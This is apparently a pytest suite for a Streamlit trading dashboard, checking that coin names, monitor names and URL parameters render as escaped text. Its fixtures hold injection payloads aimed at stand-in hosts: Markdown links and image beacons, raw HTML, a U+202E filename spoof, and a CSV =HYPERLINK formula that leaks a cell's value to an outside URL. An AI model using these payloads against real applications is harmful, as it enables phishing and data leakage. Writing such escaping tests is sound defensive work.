"""Markup from the data or the URL renders as text on every page, never as a link, an image or formatting.

Before, a coin named like a Markdown link rendered as a live link on Positions (the unpriced
note) and Tracking Error (the day story turned its URL into an autolink); System Health drew monitor
and sync-table names as Markdown (`[click me](http://evil.example)` was a live link, a U+202E reversed
the rest of the monitor list); a URL value was echoed into its warning as Markdown
(`?date=[Session expired: sign in](http://ev.il)` showed a link, `?hour=![](http://ev.il/a)` loaded an
image) and one said "Using None."; a CSV cell `=HYPERLINK(…)` went out as a formula; `?w_eps=٠.٠١`
(Arabic-Indic digits) was taken as 0.01.

What a page renders as Markdown is read from AppTest (the source Streamlit's frontend renders);
`live_markup` says whether it would draw something other than text.
"""

from __future__ import annotations

import json
import re
from datetime import UTC, date, datetime, timedelta

import pytest

from lib import format as fmt
from lib.demo import seed_client
from tests.pages.folds import open_folds
from tests.queries.fixture_desk import TARGET_COLS, TRADE_COLS, create_tables
from ui.shell import router

UTC = UTC
EVIL = "[pwn](https:evil.example)"
PREFIX = "fxmd"
MONITOR_LINK = "[click me](http://evil.example)"
MONITOR_HTML = '<a href="http://evil.example">pwn</a>'
MONITOR_BIDI = "ohlcv\u202e gnp.exe"  # a U+202E reverses everything drawn after it on the line
SYNC_DB, SYNC_TABLE = "**db**", "www.evil.example"
URL_SYMBOL = "www.evil.example"  # a bare URL in a name is autolinked by GitHub-flavoured Markdown
FORMULA_COIN = '=HYPERLINK("http://ev.il/?x="&A1,"pwn")'
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f]")


AUTOLINK = re.compile(r"(?i)https?://|www\.|mailto:|[\w.+-]+@[\w-]+\.[\w-]")  # what GFM links in plain text


def live_markup(text: str) -> list[str]:
    """What in this Markdown source would draw as something other than text: an external link or
    image or raw HTML (backslash-escaped characters are literals), an autolink (GFM finds a bare URL,
    `www.` or an e-mail in the text AFTER resolving escapes, so an escaped `http\\://` still links), a
    bidirectional control. A relative link (the app's own pages) is fine."""
    structural = re.sub(r"\\.", "", text)  # an escaped character is a literal
    found = [m for m in ("](http", "](//", "![", "<a", "<img", "<b>") if m in structural]
    resolved = re.sub(r"\\(.)", r"\1", text)  # the text GFM searches for autolinks
    found += [f"autolink {m.group(0)!r}" for m in AUTOLINK.finditer(resolved)]
    return found + (["bidi control"] if BIDI.search(text) else [])


@pytest.fixture(scope="module")
def tables(engine):
    tm = create_tables(engine, PREFIX)
    seed_client(engine, start=datetime(2025, 12, 1, tzinfo=UTC), end=datetime(2025, 12, 8, 12, tzinfo=UTC), tables=tm)
    ts = datetime(2025, 12, 2, 1, tzinfo=UTC)
    engine.insert(
        tm.qualified("trades"),
        [
            [
                ts,
                "0xdemo",
                EVIL,
                "B",
                1.0,
                100.0,
                0.0,
                "Open Long",
                0.0,
                0.01,
                "USDC",
                999_001,
                999_001,
                None,
                True,
                "0xh",
                ts,
                ts,
            ]
        ],
        column_names=TRADE_COLS,
    )
    engine.insert(
        tm.qualified("trades"),
        [[ts, "0xdemo", FORMULA_COIN, "A", 1.0, 10.0, 0.0, "Open Short", 0.0, 0.01, "USDC", 999_002, 999_002, None,
          True, "0xh2", ts, ts]],
        column_names=TRADE_COLS,
    )  # fmt: skip
    engine.insert(
        tm.qualified("targets"),
        [[date(2025, 11, 28) + timedelta(days=k), sym, 0.01] for k in range(12) for sym in (EVIL, URL_SYMBOL)],
        column_names=TARGET_COLS,
    )
    beat = datetime(2025, 12, 8, 11, tzinfo=UTC)
    engine.insert(
        tm.qualified("heartbeat"),
        [[beat, name, "host-1", "error", "boom", 0, 10] for name in (MONITOR_LINK, MONITOR_HTML, MONITOR_BIDI)],
        column_names=["ts", "monitor", "host", "status", "message", "rows", "duration_ms"],
    )
    engine.insert(
        tm.qualified("sync_log"),
        [[beat - timedelta(minutes=k), beat, SYNC_DB, SYNC_TABLE, 0, None, "error", "[x](http://evil.example)"]
         for k in range(3)],
        column_names=["started_at", "finished_at", "database", "table", "rows", "max_source_ts", "status", "error"],
    )  # fmt: skip
    return {k: tm.qualified(k) for k in tm.tables}


def _sources(at) -> list[str]:
    """Every text the run renders as Markdown: bodies, alerts, metric label/value/help, expander labels."""
    out = []
    for kind in ("markdown", "caption", "info", "warning", "error", "success"):
        out += [str(e.value) for e in getattr(at, kind)]
    for m in at.metric:
        out += [str(getattr(m, attr, "") or "") for attr in ("label", "value", "help")]
    out += [str(e.label) for e in at.expander]
    return out


def _open(app, tables, monkeypatch, page: str, query: dict | None = None):
    router.use_navigation()
    monkeypatch.setenv("DESK_TABLES", json.dumps(tables))
    at = app(page, query=query)
    assert not at.exception, [e.value for e in at.exception]
    return at


@pytest.mark.parametrize(
    "page", ["pages/positions.py", "pages/tracking_error.py", "pages/overview.py", "pages/trades.py"]
)
def test_a_markdown_coin_name_is_escaped(app, tables, monkeypatch, page):
    router.use_navigation()
    monkeypatch.setenv("DESK_TABLES", json.dumps(tables))
    at = app(page)
    assert not at.exception, [e.value for e in at.exception]
    texts = _sources(at)
    assert not [t for t in texts if "](https:" in t.replace("\\]", "")], texts  # never a live link
    if page in ("pages/positions.py", "pages/tracking_error.py"):
        assert any(fmt.md_text(EVIL) in t or "\\[pwn\\](https\\:evil.example)" in t for t in texts), texts


def test_md_text_escapes_every_markdown_character():
    assert fmt.md_text("[a](http://x) *b* _c_ `d` $e$ :red[f] #g\nh") == (
        "\\[a\\]\\(http\\:\u2060//x\\) \\*b\\* \\_c\\_ \\`d\\` \\$e\\$ \\:\u2060red\\[f\\] \\#g h"
    )
    # GFM autolinks URLs and e-mails found in the text after escapes: a word joiner breaks each
    assert fmt.md_text("www.x.io a@b.io HTTPS://x") == "www\u2060\\.x\\.io a@\u2060b\\.io HTTPS\\:\u2060//x"
    assert fmt.plot_text("<a href='x'>y</a>") == "&lt;a href='x'&gt;y&lt;/a&gt;"


# --------------------------------------------------------------------- System Health


def test_system_health_draws_monitor_and_sync_table_names_as_text(app, tables, monkeypatch):
    at = open_folds(_open(app, tables, monkeypatch, "pages/system_health.py"))  # the folds' texts too
    assert not at.exception, [e.value for e in at.exception]
    texts = _sources(at)
    assert {t: live_markup(t) for t in texts if live_markup(t)} == {}
    joined = "\n".join(texts)
    # the names are there, as text: the DOWN list of the headline names each monitor
    assert fmt.md_text(MONITOR_LINK) in joined and fmt.md_text(MONITOR_HTML) in joined
    assert "ohlcv\ufffd gnp\\.exe" in joined  # the override is shown as U+FFFD, not obeyed
    assert fmt.md_text(f"{SYNC_DB}.{SYNC_TABLE}") in joined  # the sync sentence names the failing table
    assert fmt.md_text("[x](http://evil.example)") in joined  # a failed run's error, whole in its fold
    # each monitor's link is the app's own page, its name percent-encoded into it
    assert "&monitor=%5Bclick%20me%5D%28http%3A%2F%2Fevil.example%29)" in joined


def test_system_health_charts_show_names_as_text(app, tables, monkeypatch):
    at = _open(app, tables, monkeypatch, "pages/system_health.py")
    specs = "\n".join(str(c.proto.spec) for c in at.get("plotly_chart"))
    assert MONITOR_HTML not in specs and "&lt;a href" in specs  # a tick label or hover is not a link
    assert "\u202e" not in specs


# --------------------------------------------------------------------- Tracking Error


def test_tracking_error_story_does_not_autolink_a_url_in_a_name(app, tables, monkeypatch):
    at = _open(app, tables, monkeypatch, "pages/tracking_error.py", {"day": "2025-12-05"})
    texts = _sources(at)
    assert {t: live_markup(t) for t in texts if live_markup(t)} == {}
    assert any(fmt.md_text(URL_SYMBOL) in t for t in texts), texts  # named in the day story, as text


def test_the_lag_verdict_draws_names_as_text():
    from lib.tracking.lag import DayVerdict

    verdict = DayVerdict(
        kind="a day of [missing names](http://evil.example)",
        best_lag=2,
        te_by_lag={},
        lag_sentence="the book missed www.evil.example and **BTC**",
        cost_usd=None,
        cost_bp=None,
        cost_sentence="![](http://evil.example/pixel.png) unknown",
    )
    text = verdict.to_markdown()
    assert live_markup(text) == [] and text.startswith("**Verdict: ")


# ------------------------------------------------------------------------ URL values


@pytest.mark.parametrize(
    "page,query",
    [
        ("pages/positions.py", {"date": "[Session expired: sign in](http://ev.il)"}),
        ("pages/positions.py", {"hour": "![](http://ev.il/a)"}),
        ("pages/tracking_error.py", {"day": "<img src=http://ev.il/a>"}),
        ("pages/trades.py", {"coin": "[x](https://ev.il)"}),
        ("pages/system_health.py", {"monitor": "[x](http://ev.il)"}),
    ],
)
def test_a_refused_url_value_is_echoed_as_text(app, tables, monkeypatch, page, query):
    at = _open(app, tables, monkeypatch, page, query)
    name = next(iter(query))
    warnings = [str(w.value) for w in at.warning if f"URL parameter `{name}`" in str(w.value)]
    assert warnings, [str(w.value) for w in at.warning]
    assert {w: live_markup(w) for w in warnings if live_markup(w)} == {}
    assert not any("Using None" in w for w in warnings)


def test_a_refused_value_without_a_default_says_what_the_page_does(app, tables, monkeypatch):
    at = _open(app, tables, monkeypatch, "pages/trades.py", {"coin": "**x**"})
    warning = next(str(w.value) for w in at.warning if "`coin`" in str(w.value))
    assert warning.endswith("Showing the page without it.") and "\\*\\*x\\*\\*" in warning


@pytest.mark.parametrize("page", ["pages/tracking_error.py", "pages/positions.py"])
def test_unicode_digits_in_a_threshold_are_refused(app, tables, monkeypatch, page):
    from lib import config

    at = _open(app, tables, monkeypatch, page, {"w_eps": "٠.٠١"})
    assert any("URL parameter `w_eps`" in str(w.value) for w in at.warning)
    w_eps = next(n for n in at.number_input if n.label.startswith("W_EPS"))
    assert w_eps.value == config.W_EPS  # before: 0.01, read from the Arabic-Indic digits


# ---------------------------------------------------------------------------- CSV


def test_the_fills_csv_neutralises_a_formula_coin(tables, monkeypatch, fresh_caches):
    import csv
    import io

    from ui.trades import views

    monkeypatch.setenv("DESK_TABLES", json.dumps(tables))
    text = views.fills_csv(date(2025, 12, 1), date(2025, 12, 8), ((), (), (), ""), "time", True)()
    coins = {r["coin"] for r in csv.DictReader(io.StringIO(text))}
    assert "'" + FORMULA_COIN in coins and FORMULA_COIN not in coins
